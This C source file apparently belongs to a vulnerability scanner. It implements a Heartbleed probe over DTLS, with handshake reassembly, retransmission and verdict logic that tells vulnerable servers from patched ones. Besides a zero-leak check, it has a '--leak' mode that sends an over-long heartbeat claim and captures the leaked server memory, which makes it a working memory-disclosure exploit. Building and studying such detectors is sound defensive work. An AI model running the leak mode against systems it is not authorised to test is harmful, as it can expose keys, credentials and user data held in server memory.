/* The Heartbleed probe over DTLS: ClientHello -> HelloVerifyRequest -> ClientHello with the
 * cookie -> ServerHello .. ServerHelloDone -> the zero-leak heartbeat in epoch 0 with the
 * negotiated version, then a well-formed follow-up. UDP loses, repeats and reorders
 * datagrams: our ClientHello flight is retransmitted on a doubling timer (RFC 6347 4.2.4),
 * the server's flight is reassembled from fragments in any order, and "patched" needs the
 * follow-up answered while the probe, sent again, is still dropped.
 *
 * Silence to both heartbeats is ambiguous over UDP: 16 KB datagrams travel as a dozen IP
 * fragments, and a network may drop them; GnuTLS ends the handshake on a heartbeat without a
 * word (no alert, no retransmission). OpenSSL before 1.0.2 speaks DTLS 1.0 only, so silence
 * after a DTLS 1.2 handshake is a stack other than the affected OpenSSL releases (1.0.2-beta1
 * aside, which would have answered the probe); after DTLS 1.0 it stays inconclusive. */
#include "probe/dtls_probe.h"
#include "probe/kit.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum phase { PH_CONNECT, PH_HELLO, PH_PROBED, PH_FOLLOWED, PH_DONE };

enum {
    MAX_HANDSHAKE_MESSAGE = 256 * 1024, /* as over TCP: certificate lists of 100 KB exist */
    MAX_WARNINGS = 64,
    FIRST_BYTES = 48,
    HELLO_MAX = 2048 + DTLS_RECORD_HEADER_LEN + DTLS_HANDSHAKE_HEADER_LEN,
    HEARTBEAT_MAX = DTLS_RECORD_HEADER_LEN + TLS_MAX_PLAINTEXT,
};

struct dtls_probe {
    struct probe_config cfg;
    enum phase phase;
    uint64_t deadline;
    uint16_t version;    /* offered in this attempt */
    uint16_t leak_bytes; /* --leak N, bounded so that the claim stays DTLS_PROBE_CLAIM */
    unsigned failures, version_refusals;
    char failure[160];
    bool any_datagram; /* on any attempt: the port answered */
    unsigned hellos_sent;
    /* per connection (a fresh UDP socket: a fresh association for the server) */
    uint64_t sequence; /* of our next record, epoch 0: never reused (replay protection) */
    uint16_t message_seq;
    uint8_t random[TLS_RANDOM_LEN];
    struct dtls_hello_verify cookie;
    bool have_cookie;
    struct dtls_reassembly rs;
    unsigned warnings;
    uint8_t first[FIRST_BYTES];
    size_t first_len;
    bool any_record;
    uint64_t resend_at;
    uint32_t rto;
    unsigned flight_sends;
    /* heartbeats */
    uint64_t followup_at;
    unsigned rounds;
    unsigned followups_answered;
    uint8_t *leak;
    uint8_t hello[HELLO_MAX];
    uint8_t *heartbeat; /* HEARTBEAT_MAX bytes once the server's flight is complete */
    const uint8_t *out;
    size_t out_len;
    struct probe_result result;
};

static uint16_t probe_sent(const struct dtls_probe *d)
{
    return (uint16_t)(DTLS_PROBE_CLAIM - d->leak_bytes);
}

/* ---- ending ---- */

__attribute__((format(printf, 3, 4))) static void finish(struct dtls_probe *d, enum probe_verdict v,
                                                         const char *fmt, ...)
{
    if (d->phase == PH_DONE)
        return;
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(d->result.reason, sizeof d->result.reason, fmt, ap);
    va_end(ap);
    d->result.verdict = v;
    d->result.evidence.sni_sent = d->cfg.server_name != NULL;
    d->result.leak = d->leak;
    d->phase = PH_DONE;
    d->out = NULL;
    d->out_len = 0;
    dtls_reassembly_free(&d->rs);
}

static void fail(struct dtls_probe *d, hc_result r, const char *what)
{
    finish(d, PROBE_INCONCLUSIVE, "%s: %s", what, hc_error_message(r.error));
}

/* ---- attempts: DTLS 1.2, then DTLS 1.0 on a new socket ---- */

__attribute__((format(printf, 3, 4))) static void
attempt_failed(struct dtls_probe *d, bool version_refused, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    int n = snprintf(d->failure, sizeof d->failure, "%s: ", kit_version_name(d->version));
    vsnprintf(d->failure + n, sizeof d->failure - (size_t)n, fmt, ap);
    va_end(ap);
    d->failures++;
    d->version_refusals += version_refused;
    if (d->version == DTLS_VERSION_12) {
        d->version = DTLS_VERSION_10;
        d->phase = PH_CONNECT;
        d->out = NULL;
        d->out_len = 0;
    } else if (d->version_refusals == d->failures && d->cfg.max_version == TLS_VERSION_TLS12) {
        finish(d, PROBE_NOT_VULNERABLE,
               "refuses DTLS 1.2 and 1.0 (alert protocol_version each time); OpenSSL 1.0.1 "
               "always speaks DTLS 1.0");
    } else {
        finish(d, PROBE_INCONCLUSIVE, "no DTLS handshake at any version; last: %s", d->failure);
    }
}

/* ---- sending ---- */

static void arm_retransmission(struct dtls_probe *d, uint64_t now)
{
    d->resend_at = now + d->rto;
    d->rto = d->rto * 2 < DTLS_MAX_RTO_MS ? d->rto * 2 : DTLS_MAX_RTO_MS;
}

/* Every (re)transmission is a new record with a new sequence number (RFC 6347 4.2.4): the
 * server drops a repeated one as a replay. */
static hc_result write_client_hello(struct dtls_probe *d, struct wire_writer *w)
{
    struct dtls_client_hello_params params = {
        .hello = {.version = d->version,
                  /* RFC 6347 4.1: a DTLS 1.0 record version is safe for the first flight. */
                  .record_version = DTLS_VERSION_10,
                  .server_name = d->cfg.server_name,
                  .with_extensions = true},
        .epoch = 0,
        .sequence = d->sequence++,
        .message_seq = d->message_seq,
        .cookie = d->have_cookie ? d->cookie.cookie : NULL,
        .cookie_len = d->have_cookie ? d->cookie.cookie_len : 0,
    };
    memcpy(params.hello.random, d->random, TLS_RANDOM_LEN); /* the same in both hellos */
    return dtls_client_hello_write(w, &params);
}

static void send_client_hello(struct dtls_probe *d, uint64_t now)
{
    struct wire_writer w = wire_writer_init(d->hello, sizeof d->hello);
    hc_result r = write_client_hello(d, &w);
    if (!hc_ok(r)) {
        fail(d, r, "cannot build the ClientHello");
        return;
    }
    d->out = d->hello;
    d->out_len = w.len;
    d->flight_sends++;
    d->hellos_sent++;
    arm_retransmission(d, now);
}

static void send_heartbeat(struct dtls_probe *d, enum kit_record which)
{
    bool probe = which == KIT_PROBE;
    size_t payload_len = probe ? probe_sent(d) : PROBE_FOLLOWUP_PAYLOAD;
    /* The payload is written in place after the 16-byte headers, then the record around it. */
    uint8_t *payload = d->heartbeat + DTLS_RECORD_HEADER_LEN + TLS_HEARTBEAT_HEADER_LEN;
    for (size_t i = 0; i < payload_len; i++)
        payload[i] = kit_payload_byte(which, i);
    struct tls_heartbeat_params hb = {
        .record_version = d->result.evidence.tls_version,
        .type = TLS_HEARTBEAT_REQUEST,
        .claimed_length = probe ? DTLS_PROBE_CLAIM : (uint16_t)payload_len,
        .payload = payload,
        .payload_len = payload_len,
        .padding_len = probe ? 0 : TLS_HEARTBEAT_MIN_PADDING,
    };
    struct wire_writer w = wire_writer_init(d->heartbeat, HEARTBEAT_MAX);
    hc_result r = dtls_heartbeat_write(&w, &hb, 0, d->sequence++);
    if (!hc_ok(r)) {
        fail(d, r, "cannot build the heartbeat");
        return;
    }
    d->out = d->heartbeat;
    d->out_len = w.len;
}

/* A round: the probe now, the well-formed follow-up cfg.followup_ms later. */
static void send_round(struct dtls_probe *d, uint64_t now)
{
    d->rounds++;
    send_heartbeat(d, KIT_PROBE);
    if (d->phase == PH_DONE)
        return;
    d->phase = PH_PROBED;
    d->followup_at = now + d->cfg.followup_ms;
}

static void start_probing(struct dtls_probe *d, uint64_t now)
{
    dtls_reassembly_free(&d->rs); /* the handshake is over for us */
    d->heartbeat = malloc(HEARTBEAT_MAX);
    if (!d->heartbeat) {
        fail(d, HC_RESULT(HC_ERR_NOMEM), "cannot build the heartbeat");
        return;
    }
    d->result.evidence.claimed_length = DTLS_PROBE_CLAIM;
    d->result.evidence.sent_length = probe_sent(d);
    d->rto = DTLS_INITIAL_RTO_MS;
    send_round(d, now);
}

/* ---- handshake messages ---- */

static void on_hello_verify(struct dtls_probe *d, uint64_t now,
                            const struct tls_handshake_message *m, uint16_t seq)
{
    if (d->have_cookie || d->result.evidence.server_hello)
        return; /* a repeat: our hello with the cookie is on its way or retransmitted */
    hc_result r = dtls_hello_verify_parse(m->body, m->len, &d->cookie);
    if (!hc_ok(r)) {
        fail(d, r, "malformed HelloVerifyRequest");
        return;
    }
    d->have_cookie = true;
    d->message_seq++; /* RFC 6347 4.2.2: the hello with the cookie is a new message */
    /* The server's flight follows the HelloVerifyRequest's message_seq. */
    dtls_reassembly_free(&d->rs);
    dtls_reassembly_init(&d->rs, MAX_HANDSHAKE_MESSAGE, (uint16_t)(seq + 1));
    d->rto = DTLS_INITIAL_RTO_MS;
    d->flight_sends = 0;
    send_client_hello(d, now);
}

static void on_server_hello(struct dtls_probe *d, const struct tls_handshake_message *m)
{
    struct probe_evidence *ev = &d->result.evidence;
    struct tls_server_hello sh;
    hc_result r = dtls_server_hello_parse(m->body, m->len, &sh);
    if (!hc_ok(r)) {
        fail(d, r, "malformed ServerHello");
    } else if (sh.version < d->version) { /* DTLS versions count down */
        finish(d, PROBE_INCONCLUSIVE, "the server chose %s, above the %s we offered",
               kit_version_name(sh.version), kit_version_name(d->version));
    } else {
        ev->server_hello = true;
        ev->tls_version = sh.version;
        ev->cipher = sh.cipher_suite;
        ev->heartbeat_extension = sh.heartbeat;
    }
}

static void on_certificate(struct dtls_probe *d, const struct tls_handshake_message *m)
{
    struct probe_evidence *ev = &d->result.evidence;
    struct tls_certificate_chain chain;
    /* The certificate is evidence, not part of the test: a bad one does not stop the probe. */
    if (!hc_ok(tls_certificate_parse(m->body, m->len, &chain)))
        return;
    ev->chain_length = chain.count;
    ev->cert_seen =
        hc_ok(tls_cert_info_cached(d->cfg.certs, chain.leaf, chain.leaf_len, &ev->cert));
}

static void on_message(struct dtls_probe *d, uint64_t now, const struct tls_handshake_message *m,
                       uint16_t seq)
{
    bool have_hello = d->result.evidence.server_hello;
    switch (m->type) {
    case TLS_HS_HELLO_REQUEST: return;
    case TLS_HS_HELLO_VERIFY_REQUEST: on_hello_verify(d, now, m, seq); return;
    case TLS_HS_SERVER_HELLO:
        if (have_hello)
            finish(d, PROBE_INCONCLUSIVE, "a second ServerHello");
        else
            on_server_hello(d, m);
        return;
    default: break;
    }
    if (!have_hello) {
        finish(d, PROBE_INCONCLUSIVE, "handshake message %u before the ServerHello", m->type);
    } else if (m->type == TLS_HS_CERTIFICATE) {
        on_certificate(d, m);
    } else if (m->type == TLS_HS_SERVER_HELLO_DONE) {
        hc_result r = tls_server_hello_done_parse(m->body, m->len);
        if (hc_ok(r))
            start_probing(d, now); /* in plaintext, before our ClientKeyExchange */
        else
            fail(d, r, "malformed ServerHelloDone");
    }
    /* ServerKeyExchange, CertificateRequest, CertificateStatus: nothing we need. */
}

static void on_handshake_record(struct dtls_probe *d, uint64_t now, struct wire_reader *body)
{
    if (d->phase != PH_HELLO)
        return; /* retransmissions of the server's flight after our probe do not matter */
    while (wire_remaining(body) > 0 && d->phase == PH_HELLO) {
        struct dtls_fragment f;
        if (!hc_ok(dtls_fragment_next(body, &f)))
            return; /* RFC 6347 4.1.2.7: a bad record is dropped, the handshake goes on */
        hc_result r = dtls_reassembly_add(&d->rs, &f);
        struct tls_handshake_message m;
        while (hc_ok(r) && d->phase == PH_HELLO) {
            uint16_t seq = d->rs.next_seq;
            r = dtls_reassembly_next(&d->rs, &m);
            if (hc_ok(r))
                on_message(d, now, &m, seq);
        }
        if (r.error != HC_ERR_SHORT && !hc_ok(r))
            fail(d, r, "bad handshake fragment");
    }
}

/* ---- alerts ---- */

static void on_alert_after_probe(struct dtls_probe *d, const struct tls_alert *a)
{
    if (a->description == TLS_ALERT_PROTOCOL_VERSION)
        finish(d, PROBE_INCONCLUSIVE,
               "the server refused the heartbeat's record version (alert protocol_version)");
    else if (a->description == TLS_ALERT_UNEXPECTED_MESSAGE)
        finish(d, PROBE_NOT_VULNERABLE,
               "heartbeat refused with alert unexpected_message: no heartbeat support");
    else
        finish(d, PROBE_NOT_VULNERABLE, "heartbeat refused with alert %s (%u)",
               kit_alert_name(a->description), a->description);
}

static void on_alert_record(struct dtls_probe *d, struct wire_reader *body)
{
    struct tls_alert a;
    hc_result r = tls_alert_parse(body, &a);
    if (hc_ok(r))
        r = wire_reader_end(body);
    if (!hc_ok(r)) {
        fail(d, r, "bad alert record");
        return;
    }
    struct probe_evidence *ev = &d->result.evidence;
    ev->alert_seen = true;
    ev->alert = a;
    if (a.level != TLS_ALERT_FATAL && a.description != TLS_ALERT_CLOSE_NOTIFY) {
        if (++d->warnings > MAX_WARNINGS)
            finish(d, PROBE_INCONCLUSIVE, "alert flood: more than %d warning alerts", MAX_WARNINGS);
        return;
    }
    if (d->phase == PH_HELLO)
        attempt_failed(d, a.description == TLS_ALERT_PROTOCOL_VERSION, "alert %s (%u)",
                       kit_alert_name(a.description), a.description);
    else
        on_alert_after_probe(d, &a);
}

/* ---- heartbeat answers ---- */

static void vulnerable(struct dtls_probe *d, const uint8_t *payload, size_t len)
{
    struct probe_evidence *ev = &d->result.evidence;
    if (d->leak_bytes == 0) {
        finish(d, PROBE_VULNERABLE,
               "answered a heartbeat without padding, echoing our %d bytes: the 1.0.1g length "
               "check is missing (no server memory read)%s",
               DTLS_PROBE_CLAIM,
               ev->heartbeat_extension ? "" : "; the ServerHello had no heartbeat extension");
        return;
    }
    /* The whole answer is one record of at most 16384 bytes: nothing follows it. */
    size_t sent = probe_sent(d);
    size_t got = len > sent ? len - sent : 0;
    got = got < d->leak_bytes ? got : d->leak_bytes;
    d->leak = calloc(1, d->leak_bytes);
    if (!d->leak) {
        finish(d, PROBE_VULNERABLE, "echoed the probe; out of memory for the over-read");
        return;
    }
    memcpy(d->leak, payload + sent, got);
    ev->leaked_bytes = got;
    finish(d, PROBE_VULNERABLE,
           "answered a heartbeat claiming %u byte(s) more than it carried: %zu byte(s) of "
           "server memory received",
           d->leak_bytes, got);
}

static void on_followup_answered(struct dtls_probe *d, uint64_t now)
{
    if (++d->followups_answered >= DTLS_PATCHED_ROUNDS)
        finish(d, PROBE_PATCHED,
               "dropped the heartbeat without padding %u times and answered the well-formed "
               "one each time: the 1.0.1g length check is there",
               d->followups_answered);
    else
        send_round(d, now); /* the probe may have been lost on the way: once more */
}

static void on_heartbeat_record(struct dtls_probe *d, uint64_t now, struct wire_reader *body)
{
    if (d->phase != PH_PROBED && d->phase != PH_FOLLOWED)
        return; /* before our probe: a heartbeat request of the server's, ignored */
    struct tls_heartbeat_header hb;
    hc_result r = tls_heartbeat_header_parse(body, &hb);
    if (!hc_ok(r)) {
        fail(d, r, "bad heartbeat record");
        return;
    }
    if (hb.type == TLS_HEARTBEAT_REQUEST)
        return;
    const uint8_t *payload = wire_peek(body);
    size_t n = wire_remaining(body);
    if (hb.payload_length == DTLS_PROBE_CLAIM && kit_echoes(KIT_PROBE, payload, n, probe_sent(d)))
        vulnerable(d, payload, n);
    else if (hb.payload_length == PROBE_FOLLOWUP_PAYLOAD &&
             kit_echoes(KIT_FOLLOWUP, payload, n, PROBE_FOLLOWUP_PAYLOAD))
        on_followup_answered(d, now);
    else
        finish(d, PROBE_INCONCLUSIVE,
               "a heartbeat response that echoes neither of ours (payload_length %u)",
               hb.payload_length);
}

/* ---- datagrams ---- */

static void on_record(struct dtls_probe *d, uint64_t now, const struct dtls_record_header *h,
                      struct wire_reader *body)
{
    if (h->epoch != 0)
        return; /* encrypted: we never get that far */
    switch (h->type) {
    case TLS_CT_HANDSHAKE: on_handshake_record(d, now, body); break;
    case TLS_CT_ALERT: on_alert_record(d, body); break;
    case TLS_CT_HEARTBEAT: on_heartbeat_record(d, now, body); break;
    default: break;
    }
}

static void on_datagram(struct dtls_probe *d, uint64_t now, const uint8_t *data, size_t len)
{
    struct wire_reader dg = wire_reader_init(data, len);
    while (wire_remaining(&dg) > 0 && d->phase != PH_DONE && d->phase != PH_CONNECT) {
        struct dtls_record_header h;
        struct wire_reader body;
        hc_result r = dtls_record_next(&dg, &h, &body);
        if (!hc_ok(r) && !d->any_record) {
            char quoted[4 * FIRST_BYTES + 1];
            kit_quote(d->first, d->first_len, quoted, sizeof quoted);
            finish(d, PROBE_NOT_TLS, "reply is not DTLS: \"%s\"", quoted);
            return;
        }
        if (!hc_ok(r))
            return; /* RFC 6347 4.1.2.7: invalid records are dropped, the rest with them */
        d->any_record = true;
        on_record(d, now, &h, &body);
    }
}

/* ---- the driver's interface ---- */

hc_result dtls_probe_new(const struct probe_config *cfg, uint64_t now_ms, struct dtls_probe **out)
{
    HC_ENSURE(cfg->kit, HC_ERR_USAGE);
    struct dtls_probe *d = calloc(1, sizeof *d);
    HC_ENSURE(d, HC_ERR_NOMEM);
    d->cfg = *cfg;
    d->phase = PH_CONNECT;
    d->deadline = now_ms + cfg->timeout_ms;
    /* DTLS 1.0 is TLS 1.1 on datagrams; there is no DTLS for TLS 1.0 and SSLv3. */
    d->version = cfg->max_version >= TLS_VERSION_TLS12 ? DTLS_VERSION_12 : DTLS_VERSION_10;
    uint32_t leak = cfg->kit->leak_bytes;
    d->leak_bytes = (uint16_t)(leak < DTLS_PROBE_MAX_LEAK ? leak : DTLS_PROBE_MAX_LEAK);
    dtls_reassembly_init(&d->rs, MAX_HANDSHAKE_MESSAGE, 0);
    *out = d;
    return HC_SUCCESS;
}

void dtls_probe_free(struct dtls_probe *d)
{
    if (!d)
        return;
    dtls_reassembly_free(&d->rs);
    free(d->heartbeat);
    if (d->leak)
        hc_free_secret(d->leak, d->leak_bytes);
    hc_wipe(d, sizeof *d);
    free(d);
}

void dtls_probe_on_connected(struct dtls_probe *d, uint64_t now_ms)
{
    if (d->phase != PH_CONNECT)
        return;
    d->result.evidence.attempts++;
    d->sequence = 0;
    d->message_seq = 0;
    d->have_cookie = false;
    d->any_record = false;
    d->first_len = 0;
    d->warnings = 0;
    d->flight_sends = 0;
    d->rto = DTLS_INITIAL_RTO_MS;
    d->result.evidence.server_hello = false; /* evidence of a failed attempt is stale */
    d->result.evidence.heartbeat_extension = false;
    dtls_reassembly_free(&d->rs);
    dtls_reassembly_init(&d->rs, MAX_HANDSHAKE_MESSAGE, 0);
    kit_hello_random(d->cfg.kit, d->random);
    d->phase = PH_HELLO;
    send_client_hello(d, now_ms);
}

/* Over UDP this is an ICMP error (port unreachable: ECONNREFUSED) on the connected socket. */
void dtls_probe_on_connect_failed(struct dtls_probe *d, uint64_t now_ms, const char *why)
{
    (void)now_ms;
    if (!d->any_datagram)
        finish(d, PROBE_UNREACHABLE, "%s (ICMP error: no DTLS service on this UDP port)", why);
    else if (d->phase == PH_PROBED || d->phase == PH_FOLLOWED)
        finish(d, PROBE_INCONCLUSIVE, "the server stopped answering after the heartbeat: %s", why);
    else
        finish(d, PROBE_INCONCLUSIVE, "%s after the server had answered", why);
}

void dtls_probe_on_data(struct dtls_probe *d, uint64_t now_ms, const uint8_t *data, size_t len)
{
    if (d->phase == PH_DONE || d->phase == PH_CONNECT || len == 0)
        return;
    d->any_datagram = true;
    if (!d->any_record) {
        size_t keep = len < FIRST_BYTES ? len : FIRST_BYTES;
        memcpy(d->first, data, keep);
        d->first_len = keep;
    }
    on_datagram(d, now_ms, data, len);
}

static void deadline_passed(struct dtls_probe *d)
{
    double secs = d->cfg.timeout_ms / 1000.0;
    switch (d->phase) {
    case PH_CONNECT:
        finish(d, PROBE_INCONCLUSIVE, "timed out before trying again after \"%s\"", d->failure);
        break;
    case PH_HELLO:
        if (!d->any_datagram)
            finish(d, PROBE_UNREACHABLE,
                   "no DTLS answer to %u ClientHello datagram(s) in %gs (UDP port closed, "
                   "filtered or not DTLS)",
                   d->hellos_sent, secs);
        else
            finish(d, PROBE_INCONCLUSIVE,
                   "DTLS handshake incomplete after %gs (no ServerHelloDone)", secs);
        break;
    case PH_PROBED:
    case PH_FOLLOWED:
        if (d->followups_answered)
            finish(d, PROBE_PATCHED,
                   "dropped the heartbeat without padding and answered the well-formed one: "
                   "the 1.0.1g length check is there");
        else if (d->result.evidence.tls_version == DTLS_VERSION_12)
            finish(d, PROBE_NOT_VULNERABLE,
                   "no answer to %u round(s) of heartbeats after a DTLS 1.2 handshake, which "
                   "OpenSSL 1.0.1 cannot make: a stack without heartbeats before the handshake "
                   "ends (GnuTLS drops the handshake silently)",
                   d->rounds);
        else
            finish(d, PROBE_INCONCLUSIVE,
                   "no answer to %u round(s) of heartbeats in %gs: dropped or lost (16 KB "
                   "datagrams travel as IP fragments)",
                   d->rounds, secs);
        break;
    default: break;
    }
}

static void hello_timer(struct dtls_probe *d, uint64_t now)
{
    /* Silence to DTLS 1.2 may be a server that ignores what it cannot speak; the cookie
     * exchange comes first, so only a ServerHello is an answer to the version. */
    bool silent = !d->result.evidence.server_hello && d->flight_sends >= DTLS_SILENT_HELLO_SENDS;
    if (silent && d->version == DTLS_VERSION_12)
        attempt_failed(d, false, "no ServerHello to %u ClientHello datagrams", d->flight_sends);
    else if (d->flight_sends < DTLS_MAX_HELLO_SENDS)
        send_client_hello(d, now); /* RFC 6347 4.2.4: the last flight again */
    else
        d->resend_at = d->deadline;
}

void dtls_probe_on_tick(struct dtls_probe *d, uint64_t now_ms)
{
    if (d->phase == PH_DONE)
        return;
    if (now_ms >= d->deadline) {
        deadline_passed(d);
    } else if (d->phase == PH_HELLO && now_ms >= d->resend_at) {
        hello_timer(d, now_ms);
    } else if (d->phase == PH_PROBED && now_ms >= d->followup_at) {
        send_heartbeat(d, KIT_FOLLOWUP);
        if (d->phase == PH_DONE)
            return;
        d->phase = PH_FOLLOWED;
        arm_retransmission(d, now_ms);
    } else if (d->phase == PH_FOLLOWED && now_ms >= d->resend_at) {
        if (d->rounds < DTLS_MAX_HEARTBEAT_ROUNDS)
            send_round(d, now_ms); /* both lost, or the probe's answer was (RFC 6520 4) */
        else
            d->resend_at = d->deadline;
    }
}

enum probe_state dtls_probe_state(const struct dtls_probe *d)
{
    if (d->phase == PH_DONE)
        return PROBE_DONE;
    return d->phase == PH_CONNECT ? PROBE_WANT_CONNECT : PROBE_RUNNING;
}

void dtls_probe_take_output(struct dtls_probe *d, const uint8_t **data, size_t *len)
{
    *data = d->out;
    *len = d->out_len;
    d->out = NULL;
    d->out_len = 0;
}

uint64_t dtls_probe_wakeup_at(const struct dtls_probe *d)
{
    uint64_t at = d->deadline;
    if ((d->phase == PH_HELLO || d->phase == PH_FOLLOWED) && d->resend_at < at)
        at = d->resend_at;
    if (d->phase == PH_PROBED && d->followup_at < at)
        at = d->followup_at;
    return at;
}

const struct probe_result *dtls_probe_result(const struct dtls_probe *d) { return &d->result; }
